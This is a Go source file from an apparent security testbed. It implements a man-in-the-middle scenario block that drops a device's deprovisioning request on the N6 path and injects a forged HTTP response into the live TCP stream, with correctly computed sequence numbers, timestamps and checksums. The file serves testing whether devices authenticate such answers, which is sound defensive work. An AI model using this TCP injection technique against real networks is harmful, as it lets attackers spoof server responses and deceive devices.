package blocks

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"net/http"
	"strings"
	"sync"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"

	"github.com/credbed/credbed/internal/provproto"
	"github.com/credbed/credbed/internal/trace"
	"github.com/credbed/credbed/internal/transport"
	"github.com/credbed/credbed/scenarios"
)

// ForgeHTTPResponseArgs are the arguments of forge_http_response.
type ForgeHTTPResponseArgs struct {
	// Request is the start of the request line to intercept on N6, e.g.
	// "DELETE /cpf/" (required).
	Request string `yaml:"request"`
	// Status of the forged answer (default 200).
	Status int `yaml:"status"`
	// Body of the forged answer; "{target}" stands for the last segment of
	// the intercepted request's path (e.g. the target SUPI).
	Body string `yaml:"body"`
	// ContentType of the body (default application/json).
	ContentType string `yaml:"content_type"`
	// Count bounds the requests answered (0: no limit); retransmissions of
	// an answered request are dropped too.
	Count int `yaml:"count"`
}

// Validate fills defaults.
func (a *ForgeHTTPResponseArgs) Validate() error {
	if a.Request == "" {
		return fmt.Errorf("request is required (the start of the request line, e.g. \"DELETE /cpf/\")")
	}
	if a.Status == 0 {
		a.Status = http.StatusOK
	}
	if a.Status < 100 || a.Status > 599 {
		return fmt.Errorf("status %d is not an HTTP status", a.Status)
	}
	if a.ContentType == "" {
		a.ContentType = provproto.ContentJSON
	}
	if a.Count < 0 {
		return fmt.Errorf("count must not be negative")
	}
	if len(a.Body) > provproto.MaxBody {
		return fmt.Errorf("body over %d bytes", provproto.MaxBody)
	}
	return nil
}

// ForgeHTTPResponse is the man in the middle on the data network path (N6)
// answering the PD in the CPF's place: it drops the selected request (the
// CPF never sees it) and sends the PD a forged answer inside the same TCP
// connection (sequence and acknowledgement numbers, timestamps and
// checksums as the CPF's stack would set them). It models
// reference/3gpp.md §6.3 X9, a forged deprovisioning confirmation: a PD
// that does not authenticate the answer believes the target was removed.
func ForgeHTTPResponse() *scenarios.Block {
	return scenarios.NewCapability("forge_http_response", scenarios.Spec{
		Summary: "on N6, drop a PD request to the CPF and answer it with a forged HTTP response in the same TCP stream",
		Roles:   attackerRoles(), Ifaces: []string{trace.IfaceN6, trace.IfaceAPI},
	}, func(_ context.Context, st *scenarios.State, actor string, a *ForgeHTTPResponseArgs) (any, error) {
		sel := &Selector{Iface: Kinds{"n6"}, Contains: Bytes(a.Request)}
		var mu sync.Mutex
		answered := map[string]bool{} // flow and sequence number of answered requests
		ipID := uint16(st.NewRand().Uint32())
		return InstallSelected(st, sel, trace.KindAttack, actor, "forge_http_response", func(rep *Reporter, p transport.Packet) []transport.Packet {
			ip, tcp, ok := decodeTCP(p.Payload)
			if !ok || !bytes.HasPrefix(tcp.Payload, []byte(a.Request)) {
				return []transport.Packet{p}
			}
			key := fmt.Sprintf("%v:%d>%v:%d@%d", ip.SrcIP, tcp.SrcPort, ip.DstIP, tcp.DstPort, tcp.Seq)
			mu.Lock()
			seen := answered[key]
			full := a.Count > 0 && len(answered) >= a.Count
			if !seen && !full {
				answered[key] = true
			}
			ipID++
			id := ipID
			mu.Unlock()
			switch {
			case seen:
				rep.Act(p, "dropped a retransmission of an answered request")
				return nil
			case full:
				return []transport.Packet{p}
			}
			line, _, _ := bytes.Cut(tcp.Payload, []byte("\r\n"))
			target := ""
			if f := strings.Fields(string(line)); len(f) >= 2 {
				path, _, _ := strings.Cut(f[1], "?")
				target = path[strings.LastIndex(path, "/")+1:]
			}
			body := strings.ReplaceAll(a.Body, "{target}", target)
			resp := fmt.Sprintf("HTTP/1.1 %d %s\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s",
				a.Status, http.StatusText(a.Status), a.ContentType, len(body), body)
			forged, err := forgeSegment(ip, tcp, id, []byte(resp))
			if err != nil {
				rep.Note("forge_http_response: " + err.Error())
				return []transport.Packet{p}
			}
			rep.Act(p, fmt.Sprintf("dropped %q and answered %d in its place", line, a.Status))
			return []transport.Packet{{Kind: transport.N6, From: p.To, To: p.From, Payload: forged, Injected: true}}
		})
	})
}

// forgeSegment builds the server's answer to the request segment (ip, tcp)
// carrying payload: addresses and ports swapped, SEQ = the request's ACK,
// ACK = the end of the request, timestamps echoed (RFC 7323).
func forgeSegment(ip *layers.IPv4, tcp *layers.TCP, id uint16, payload []byte) ([]byte, error) {
	rip := &layers.IPv4{Version: 4, IHL: 5, TTL: 64, Id: id, Flags: layers.IPv4DontFragment, Protocol: layers.IPProtocolTCP,
		SrcIP: ip.DstIP, DstIP: ip.SrcIP}
	rtcp := &layers.TCP{SrcPort: tcp.DstPort, DstPort: tcp.SrcPort, Seq: tcp.Ack, Ack: tcp.Seq + uint32(len(tcp.Payload)),
		ACK: true, PSH: true, Window: tcp.Window}
	for _, o := range tcp.Options {
		if o.OptionType == layers.TCPOptionKindTimestamps && len(o.OptionData) == 8 {
			d := make([]byte, 8)
			binary.BigEndian.PutUint32(d[:4], binary.BigEndian.Uint32(o.OptionData[4:])) // TSval: the peer's last echo
			binary.BigEndian.PutUint32(d[4:], binary.BigEndian.Uint32(o.OptionData[:4])) // TSecr: the request's TSval
			rtcp.Options = append(rtcp.Options,
				layers.TCPOption{OptionType: layers.TCPOptionKindNop, OptionLength: 1},
				layers.TCPOption{OptionType: layers.TCPOptionKindNop, OptionLength: 1},
				layers.TCPOption{OptionType: layers.TCPOptionKindTimestamps, OptionLength: 10, OptionData: d})
		}
	}
	if err := rtcp.SetNetworkLayerForChecksum(rip); err != nil {
		return nil, err
	}
	buf := gopacket.NewSerializeBuffer()
	if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true},
		rip, rtcp, gopacket.Payload(payload)); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}
